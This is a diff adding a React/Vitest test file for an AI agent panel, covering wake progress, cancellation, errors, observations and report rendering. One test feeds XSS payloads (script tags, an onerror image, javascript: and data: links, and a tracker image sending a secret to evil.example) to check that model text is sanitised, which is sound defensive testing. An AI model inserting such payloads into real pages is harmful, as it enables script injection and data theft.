@@ -1,0 +1,328 @@
+import { act, cleanup, render, screen, waitFor, within } from '@testing-library/react';
+import userEvent from '@testing-library/user-event';
+import { MemoryRouter } from 'react-router';
+import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
+import { createAgentReadyTask } from '../../../test/support/test-database';
+import type { WakeOutcome } from '../../agent/run-wake';
+import { NOT_CONFIGURED_MESSAGE } from '../../agent/start-wake';
+import type { WakeProgress } from '../../agent/wake-progress';
+import { getDatabase } from '../../db/connection';
+import { DEFAULT_AGENT_ID, type Wake } from '../../domain/agent';
+import { AgentPanel } from './agent-panel';
+import { useWakeProgressStore } from './wake-progress-store';
+
+const wakeClient = vi.hoisted(() => ({ requestWake: vi.fn(), cancelWake: vi.fn() }));
+vi.mock('../../agent/wake-client', () => wakeClient);
+
+/** A wake the test drives: each `emit` is one progress event from the worker. */
+function scriptWake() {
+  let onProgress: (progress: WakeProgress) => void = () => {};
+  let settle: (outcome: WakeOutcome) => void = () => {};
+  wakeClient.requestWake.mockImplementation(
+    (_taskId: string, progress: (progress: WakeProgress) => void) => {
+      onProgress = progress;
+      return new Promise<WakeOutcome>((resolve) => (settle = resolve));
+    },
+  );
+  return {
+    emit: (...events: WakeProgress[]) => act(() => events.forEach((event) => onProgress(event))),
+    finish: (outcome: WakeOutcome) => act(async () => settle(outcome)),
+  };
+}
+
+let taskId: string;
+
+beforeEach(async () => {
+  wakeClient.requestWake.mockReset();
+  wakeClient.cancelWake.mockReset();
+  useWakeProgressStore.setState({ byTask: {} });
+  await getDatabase().delete();
+  await getDatabase().open();
+  ({ taskId } = await createAgentReadyTask(getDatabase()));
+});
+afterEach(() => cleanup());
+
+function renderPanel(id = taskId) {
+  return render(
+    <MemoryRouter>
+      <AgentPanel taskId={id} />
+    </MemoryRouter>,
+  );
+}
+
+const status = () => screen.getByRole('status');
+const wakeButton = () => screen.getByRole('button', { name: 'Wake agent' });
+
+function wakeRow(change: Partial<Wake> = {}): Wake {
+  const startedAt = change.startedAt ?? new Date().toISOString();
+  return {
+    id: crypto.randomUUID(),
+    agentId: DEFAULT_AGENT_ID,
+    taskId,
+    runKey: 'wake:x',
+    status: 'done',
+    startedAt,
+    createdAt: startedAt,
+    updatedAt: startedAt,
+    rev: 1,
+    vectorClock: {},
+    ...change,
+  };
+}
+
+async function putReport(content: string) {
+  const now = new Date().toISOString();
+  await getDatabase().reports.put({
+    id: `${DEFAULT_AGENT_ID}:${taskId}`,
+    agentId: DEFAULT_AGENT_ID,
+    taskId,
+    oneLiner: 'The demo is on track.',
+    tldr: 'Script written; the room is not booked yet.',
+    content,
+    createdAt: now,
+    updatedAt: now,
+    rev: 1,
+    vectorClock: {},
+  });
+}
+
+describe('AgentPanel', () => {
+  it('explains what waking does before the first wake', async () => {
+    renderPanel();
+    expect(screen.getByRole('heading', { level: 2, name: 'Agent' })).toBeInTheDocument();
+    expect(
+      await screen.findByText(
+        'The agent reads this task and its journal and proposes changes for you to confirm. Nothing changes until you confirm.',
+      ),
+    ).toBeInTheDocument();
+    expect(wakeButton()).not.toHaveAttribute('aria-disabled');
+  });
+
+  it('renders nothing for a task that does not exist', async () => {
+    const { container } = renderPanel('no-such-task');
+    await waitFor(() => expect(container).toBeEmptyDOMElement());
+  });
+
+  it('streams the wake’s progress in words and ends with what it proposed', async () => {
+    const wake = scriptWake();
+    renderPanel();
+    await userEvent.click(wakeButton());
+
+    expect(wakeClient.requestWake).toHaveBeenCalledWith(taskId, expect.any(Function), 'manual');
+    expect(status()).toHaveAttribute('aria-live', 'polite');
+    expect(status()).toHaveTextContent('Starting the agent…');
+    expect(wakeButton()).toHaveAttribute('aria-disabled', 'true');
+    expect(screen.getByRole('button', { name: 'Cancel' })).toBeInTheDocument();
+
+    wake.emit(
+      { type: 'started', wakeId: 'w1', taskId },
+      { type: 'connecting', provider: 'the demo agent' },
+    );
+    expect(status()).toHaveTextContent('Connecting to the demo agent…');
+
+    wake.emit({ type: 'thinking', turn: 1 });
+    expect(status()).toHaveTextContent('Thinking (turn 1 of up to 8)…');
+
+    wake.emit(
+      { type: 'tool', turn: 1, toolName: 'update_task_estimate', outcome: 'queued' },
+      { type: 'proposed', total: 3 },
+      { type: 'thinking', turn: 2 },
+    );
+    expect(status()).toHaveTextContent('Thinking (turn 2 of up to 8)… 3 changes proposed so far.');
+    expect(
+      screen.getByText('Last step (turn 1): update_task_estimate, queued for your review.'),
+    ).toBeInTheDocument();
+
+    wake.emit({
+      type: 'waiting',
+      seconds: 5,
+      reason: 'The provider asked to wait before the next request (rate limit).',
+    });
+    expect(status()).toHaveTextContent(
+      'Waiting 5 s: the provider asked to wait before the next request (rate limit).',
+    );
+
+    wake.emit({ type: 'proposed', total: 4 }, { type: 'done', proposed: 4, turns: 2 });
+    await wake.finish({ status: 'done', wakeId: 'w1', proposed: 4, turns: 2 });
+    expect(status()).toHaveTextContent('Done: 4 changes proposed for your review.');
+    expect(wakeButton()).not.toHaveAttribute('aria-disabled');
+    expect(screen.queryByRole('button', { name: 'Cancel' })).toBeNull();
+  });
+
+  it('cancels a running wake', async () => {
+    const wake = scriptWake();
+    renderPanel();
+    await userEvent.click(wakeButton());
+    wake.emit({ type: 'thinking', turn: 1 });
+    await userEvent.click(screen.getByRole('button', { name: 'Cancel' }));
+
+    expect(wakeClient.cancelWake).toHaveBeenCalledWith(taskId);
+    expect(status()).toHaveTextContent('Cancelling…');
+    wake.emit({ type: 'cancelled' });
+    await wake.finish({ status: 'cancelled', proposed: 0, turns: 1 });
+    expect(status()).toHaveTextContent('Cancelled. Nothing was proposed.');
+    // The Cancel button went away with focus on it: focus lands on Wake agent, not the page.
+    expect(wakeButton()).toHaveFocus();
+  });
+
+  it('shows why a wake failed, with the way to settings when no model is set', async () => {
+    const wake = scriptWake();
+    renderPanel();
+    await userEvent.click(wakeButton());
+    wake.emit({ type: 'failed', kind: 'not-configured', message: NOT_CONFIGURED_MESSAGE });
+    await wake.finish({
+      status: 'failed',
+      kind: 'not-configured',
+      message: NOT_CONFIGURED_MESSAGE,
+      proposed: 0,
+      turns: 0,
+    });
+
+    const alert = screen.getByRole('alert');
+    expect(alert).toHaveClass('notice--error');
+    expect(alert).toHaveTextContent('The agent has no model yet.');
+    expect(within(alert).getByRole('link', { name: 'Open agent settings' })).toHaveAttribute(
+      'href',
+      '/settings#agent',
+    );
+    expect(status()).toHaveTextContent('');
+  });
+
+  it('shows other failures without the settings link', async () => {
+    const wake = scriptWake();
+    renderPanel();
+    await userEvent.click(wakeButton());
+    await wake.finish({
+      status: 'failed',
+      kind: 'unreachable',
+      message: 'Nothing answered at localhost:11434.',
+      proposed: 0,
+      turns: 1,
+    });
+    expect(screen.getByRole('alert')).toHaveTextContent('Nothing answered at localhost:11434.');
+    expect(screen.queryByRole('link', { name: 'Open agent settings' })).toBeNull();
+  });
+
+  it('says the agent is already working when another tab’s wake is running', async () => {
+    await getDatabase().wakes.put(wakeRow({ status: 'running' }));
+    renderPanel();
+    expect(await screen.findByText(/already working on this task in another tab/)).toBeVisible();
+    expect(wakeButton()).toHaveAttribute('aria-disabled', 'true');
+  });
+
+  it('ignores a "running" wake that started more than ten minutes ago (a tab that died)', async () => {
+    const startedAt = new Date(Date.now() - 11 * 60_000).toISOString();
+    await getDatabase().wakes.put(wakeRow({ status: 'running', startedAt }));
+    renderPanel();
+    await screen.findByText(/^Wake started .* · still running$/);
+    expect(screen.queryByText(/already working/)).toBeNull();
+    expect(wakeButton()).not.toHaveAttribute('aria-disabled');
+  });
+
+  it('summarises the last wake: when, status, turns, tokens, duration, error', async () => {
+    const startedAt = '2025-05-14T10:32:00.000Z';
+    await getDatabase().wakes.bulkPut([
+      wakeRow({ startedAt: '2025-05-13T09:00:00.000Z', turns: 1 }),
+      wakeRow({
+        startedAt,
+        endedAt: '2025-05-14T10:32:12.400Z',
+        status: 'failed',
+        turns: 3,
+        usage: { inputTokens: 1_000, outputTokens: 234 },
+        error: 'The provider stopped answering.',
+      }),
+    ]);
+    renderPanel();
+    const summary = await screen.findByText(/^Last wake/);
+    expect(summary).toHaveTextContent(
+      /failed · 3 turns · 1,234 tokens \(1,000 in, 234 out\) · took 12 s · Error: The provider stopped answering\./,
+    );
+    expect(screen.queryByText(/The agent reads this task/)).toBeNull();
+  });
+
+  it('lists the agent’s observations newest first, with their priority in words', async () => {
+    const base = { agentId: DEFAULT_AGENT_ID, taskId, rev: 1, vectorClock: {}, category: 'risk' };
+    await getDatabase().observations.bulkPut([
+      {
+        ...base,
+        id: 'o1',
+        text: 'The room may be taken.',
+        priority: 'high',
+        createdAt: '2025-05-14T10:00:00.000Z',
+        updatedAt: '2025-05-14T10:00:00.000Z',
+      },
+      {
+        ...base,
+        id: 'o2',
+        text: 'Script is nearly done.',
+        priority: 'low',
+        createdAt: '2025-05-15T10:00:00.000Z',
+        updatedAt: '2025-05-15T10:00:00.000Z',
+      },
+    ]);
+    renderPanel();
+    const list = await screen.findByRole('list', { name: 'Observations, newest first' });
+    expect(
+      within(list)
+        .getAllByRole('listitem')
+        .map((item) => item.textContent),
+    ).toEqual([
+      'Low priorityriskScript is nearly done.',
+      'High priorityriskThe room may be taken.',
+    ]);
+  });
+
+  describe('the report', () => {
+    it('shows the one-liner in bold, the summary, and the full report as markdown on demand', async () => {
+      await putReport(
+        '# Findings\n\nThe script is **done**.\n\n- Book the room\n- Test the projector',
+      );
+      renderPanel();
+      const oneLiner = await screen.findByText('The demo is on track.');
+      expect(oneLiner.tagName).toBe('STRONG');
+      expect(screen.getByText('Script written; the room is not booked yet.')).toBeVisible();
+
+      const summary = screen.getByText('Full report');
+      const details = summary.closest('details')!;
+      expect(details).not.toHaveAttribute('open');
+      await userEvent.click(summary);
+      expect(details).toHaveAttribute('open');
+      expect(within(details).getByRole('heading', { level: 4, name: 'Findings' })).toBeVisible();
+      expect(within(details).getByText('done').tagName).toBe('STRONG');
+      expect(within(details).getAllByRole('listitem')).toHaveLength(2);
+    });
+
+    it('never turns model text into HTML, scripts, images or javascript: links', async () => {
+      await putReport(
+        [
+          'Before <script>window.pwned = true</script> after.',
+          '',
+          '<img src="x" onerror="window.pwned = true">',
+          '',
+          '<a href="javascript:alert(1)">raw link</a>',
+          '',
+          '[markdown link](javascript:alert(1)) and [encoded](java&#x09;script:alert(1)) and <javascript:alert(1)>',
+          '',
+          '[relative](/settings) and [data](data:text/html;base64,PHNjcmlwdD4=)',
+          '',
+          '![tracker](https://evil.example/pixel.png?secret=1)',
+          '',
+          '[a real page](https://example.com/docs)',
+        ].join('\n'),
+      );
+      const { container } = renderPanel();
+      await userEvent.click(await screen.findByText('Full report'));
+      const report = container.querySelector('.agent-report__markdown')!;
+
+      expect(report.querySelector('script, img, iframe, [onerror]')).toBeNull();
+      expect(report.textContent).toContain('<script>window.pwned = true</script>');
+      expect(report.textContent).toContain('<img src="x" onerror="window.pwned = true">');
+      const links = [...report.querySelectorAll('a')];
+      expect(links.map((link) => link.getAttribute('href'))).toEqual(['https://example.com/docs']);
+      expect(links[0]).toHaveAttribute('rel', 'noopener noreferrer nofollow');
+      expect(report.textContent).toContain('markdown link');
+      expect(report.textContent).toContain('[image: tracker]');
+      expect((window as { pwned?: boolean }).pwned).toBeUndefined();
+    });
+  });
+});
